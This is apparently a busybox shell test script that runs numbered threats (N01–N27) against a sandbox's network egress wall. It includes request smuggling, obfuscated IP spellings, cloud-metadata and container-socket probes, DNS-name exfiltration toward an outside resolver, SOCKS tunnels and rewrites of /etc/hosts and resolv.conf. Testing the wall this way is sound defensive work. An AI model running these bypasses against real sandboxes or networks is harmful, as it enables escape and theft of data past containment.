# What a hostile program tries against the network wall, in busybox's shell: run inside, by init and by exec, with and
# without the wall. The names are those of docs/threats.md (N01 to N27); everything that must not arrive says ATTACK or goes where
# nothing else goes. Prints what it got; what arrived is for the witness outside to say.
# Allowed are api.example.test on 80 and 443, and on 80 the names that lead astray.

proxy=127.0.0.1:3128
there=198.51.100.12

# send HOST PORT TEXT: printf's escapes; the first line of the answer.
send() { printf "$3" | timeout 3 nc "$1" "$2" 2>/dev/null | head -n 1 | tr -dc ' -~' | cut -c 1-40; }
# get ID HOST PORT NAME: a request for NAME, to HOST.
get() { echo "$1: $(send "$2" "$3" "GET /$1 HTTP/1.1\r\nHost: $4\r\nConnection: close\r\n\r\n")"; }
# by_proxy ID TEXT
by_proxy() { echo "$1: $(send ${proxy%:*} ${proxy#*:} "$2")"; }
# connect ID TARGET: CONNECT, and a request behind it.
connect() { by_proxy "$1" "CONNECT $2 HTTP/1.1\r\nHost: $2\r\n\r\nGET /ATTACK-$1 HTTP/1.1\r\nHost: other.example.test\r\n\r\n"; }
# bytes NUMBER WIDTH: big-endian, as escapes of printf.
bytes() { n=$1 w=$2 out=; while [ "$w" -gt 0 ]; do out="\\$(printf %03o $((n & 255)))$out" n=$((n >> 8)) w=$((w - 1)); done; printf '%s' "$out"; }
# hello NAME: a ClientHello; without a name if it is empty.
hello() {
    extensions=
    [ -z "$1" ] || extensions="$(bytes 0 2)$(bytes $((${#1} + 5)) 2)$(bytes $((${#1} + 3)) 2)\\000$(bytes ${#1} 2)$1"
    size=0
    [ -z "$1" ] || size=$((${#1} + 9))
    body=$((2 + 32 + 1 + 2 + 2 + 2 + 2 + size))
    printf '%s' "\\026\\003\\001$(bytes $((body + 4)) 2)\\001$(bytes $body 3)\\003\\003$(bytes 7 32)\\000$(bytes 2 2)\\000\\057\\001\\000$(bytes $size 2)$extensions"
}

get reached-N02 api.example.test 80 api.example.test
by_proxy reached-N02-proxy "GET http://api.example.test/reached-N02-proxy HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n"

# N01, N15: addresses that no name got.
for port in 80 443 22 8080; do get "ATTACK-N01-$port" $there $port other.example.test; done
get ATTACK-N01-listed $there 80 api.example.test
get ATTACK-N15 2001:db8::12 80 other.example.test

# N03: what is not listed, by each way.
get ATTACK-N03 other.example.test 80 other.example.test
connect N03-connect other.example.test:80
connect N03-port api.example.test:22
by_proxy N03-absolute "GET http://other.example.test/ATTACK-N03 HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
by_proxy N03-host "GET http://api.example.test/ATTACK-N03 HTTP/1.1\r\nHost: other.example.test\r\n\r\n"

# N04: addresses in every spelling.
for host in $there 3325256716 0xc633640c 0306.063.0144.014 198.51.25612 '[::ffff:198.51.100.12]' '[2001:db8::12]' '[fe80::1%%25lo]'; do
    connect N04 "$host:80"
done

# N05 to N07: names and addresses of the cloud, and allowed names that lead to the node or change their answer.
get ATTACK-N05 169.254.169.254 80 metadata.example.test
connect N05 169.254.169.254:80
connect N05-name metadata.google.internal:80
for name in private metadata loopback mapped cgnat nat64 gateway; do get ATTACK-N06-$name $name.example.test 80 $name.example.test; done
# The second answer is the node's own loopback: it gets nowhere, or the first one is remembered.
for turn in 1 2 3; do send rebind.example.test 80 "GET /reached-N07 HTTP/1.1\r\nHost: rebind.example.test\r\nConnection: close\r\n\r\n" >/dev/null; done

# N08, N09: names that are read in two ways, and neighbours of listed ones.
for host in 'api.example.test\000.other.example.test' 'other.example.test\000api.example.test' 'api.example.test@198.51.100.12' \
    'other.example.test%%00api.example.test' 'api.example.test\011198.51.100.12' 'other.example.test:80#api.example.test' \
    'evilapi.example.test' 'api.example.test.other.example.test' 'example.test' 'x.api.example.test'; do
    connect N08 "$host:80"
done
by_proxy N08-line "CONNECT api.example.test:80\r\nX: other.example.test:80 HTTP/1.1\r\n\r\nGET /ATTACK-N08 HTTP/1.1\r\n\r\n"

# N10, N11: TLS that names another host, or none, and what is no TLS.
echo "N10-other: $(send api.example.test 443 "$(hello other.example.test)")"
echo "N10-none: $(send api.example.test 443 "$(hello '')")"
get ATTACK-N11 api.example.test 443 api.example.test

# N12: a second request that means another host.
send api.example.test 80 "GET /reached-N12 HTTP/1.1\r\nHost: api.example.test\r\n\r\nGET /ATTACK-N12 HTTP/1.1\r\nHost: other.example.test\r\nConnection: close\r\n\r\n" >/dev/null
send api.example.test 80 "POST /ATTACK-N12-smuggle HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /ATTACK-N12 HTTP/1.1\r\nHost: other.example.test\r\nConnection: close\r\n\r\n" >/dev/null

# N13, N16, N17: other sockets, other ways out.
for port in 443 5353 123; do probe with udp $there $port; done
probe socket-sctp socket-dccp socket-raw socket-packet option-mark option-transparent add-route change-link links

# N14: names that carry data out.
for server in '' 198.51.100.53 127.0.0.11; do timeout 6 nslookup "secret.ATTACK-N14.test" $server >/dev/null 2>&1; done
probe with udp 198.51.100.53 53
send 198.51.100.53 53 '\000\001x' >/dev/null

# N18, N25: the node, by each address that it has here.
for address in $NODE; do
    get ATTACK-N18 "$address" 8099 node
    connect N18 "$address:8099"
done
ls -d /run/agentbox /run/docker.sock /run/containerd /run/podman 2>/dev/null

# N19: SOCKS.
greet='\005\001\000\005\001\000'
by_proxy N19-name "$greet\003\022other.example.test\000\120GET /ATTACK-N19 HTTP/1.1\r\n\r\n"
by_proxy N19-address "$greet\001\306\063\144\014\000\120GET /ATTACK-N19 HTTP/1.1\r\n\r\n"
by_proxy N19-datagrams "\005\001\000\005\003\000\001\306\063\144\014\001\273"

# N23, N27: files of names, and the wall's own ports.
echo "$there api.example.test" 2>/dev/null >>/etc/hosts
echo 'nameserver 198.51.100.53' 2>/dev/null >/etc/resolv.conf
get reached-N23 api.example.test 80 api.example.test
for port in 53 80 443 3128; do timeout 1 nc -l -p $port </dev/null >/dev/null 2>&1; done
get reached-N27 api.example.test 80 api.example.test
sleep 0.3 # ctr loses what a program says last
